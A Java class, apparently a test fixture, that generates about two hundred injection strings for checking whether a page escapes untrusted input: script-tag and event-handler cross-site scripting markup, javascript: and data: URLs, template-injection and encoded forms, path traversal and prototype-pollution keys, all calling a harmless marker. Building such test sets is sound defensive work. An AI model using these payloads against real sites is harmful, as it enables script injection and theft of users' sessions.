package dev.callflow.browser;

import java.util.List;
import java.util.stream.Stream;

/** Texts that run a script, or load something, in a page that puts them into its markup. */
final class Payloads {

  /** What each of them calls. */
  private static final String CALL = "window.pwned=1";

  private static final List<String> MARKUP =
      List.of(
          "<script>%s</script>",
          "<ScRiPt>%s</sCrIpT>",
          "<script src=/pwned.js></script>",
          "<img src=/pwned onerror=%s>",
          "<img/src=/pwned/onerror=%s>",
          "<svg onload=%s>",
          "<svg><script>%s</script></svg>",
          "<svg><animate onbegin=%s attributeName=x dur=1s>",
          "<body onload=%s>",
          "<iframe src=javascript:%s>",
          "<iframe srcdoc='<script>parent.%s</script>'>",
          "<object data=/pwned></object>",
          "<embed src=/pwned>",
          "<video src=/pwned onerror=%s>",
          "<audio src=/pwned onerror=%s>",
          "<details open ontoggle=%s>",
          "<input autofocus onfocus=%s>",
          "<select autofocus onfocus=%s>",
          "<marquee onstart=%s>",
          "<math><mtext><script>%s</script>",
          "<a href=javascript:%s>x</a>",
          "<form action=/pwned><button autofocus>x",
          "<link rel=stylesheet href=/pwned.css>",
          "<style>@import '/pwned.css'</style>",
          "<meta http-equiv=refresh content=0;url=/pwned>",
          "<base href=/pwned/>",
          "<template><script>%s</script></template>",
          "<div style=background:url(/pwned)>",
          "<table background=/pwned>",
          "<isindex type=image src=/pwned onerror=%s>");

  private static final List<String> BREAKERS =
      List.of("", "\">", "'>", "-->", "</title>", "</textarea>");

  private static final List<String> OTHERS =
      List.of(
          "javascript:%s",
          "JaVaScRiPt:%s//",
          "data:text/html,<script>parent.%s</script>",
          "vbscript:%s",
          "\" onmouseover=\"%s",
          "' onfocus='%s' autofocus='",
          "`onerror=%s`",
          "${%s}",
          "{{constructor.constructor('%s')()}}",
          "#{%s}",
          "<%%= %s %%>",
          "\\u003cscript\\u003e%s\\u003c/script\\u003e",
          "&lt;script&gt;%s&lt;/script&gt;",
          "%%3Cscript%%3E%s%%3C/script%%3E",
          "../../../pwned",
          "..%%2F..%%2Fpwned",
          "//pwned.example/%s",
          "https://pwned.example/?%s",
          "?login=%s#login=%s",
          "__proto__",
          "constructor",
          "toString",
          "');%s;//");

  private Payloads() {}

  /** Returns two hundred different payloads. */
  static List<String> all() {
    Stream<String> broken =
        BREAKERS.stream().flatMap(breaker -> MARKUP.stream().map(markup -> breaker + markup));
    return Stream.concat(OTHERS.stream(), broken)
        .map(text -> text.replace("%s", CALL).replace("%%", "%"))
        .limit(200)
        .toList();
  }
}
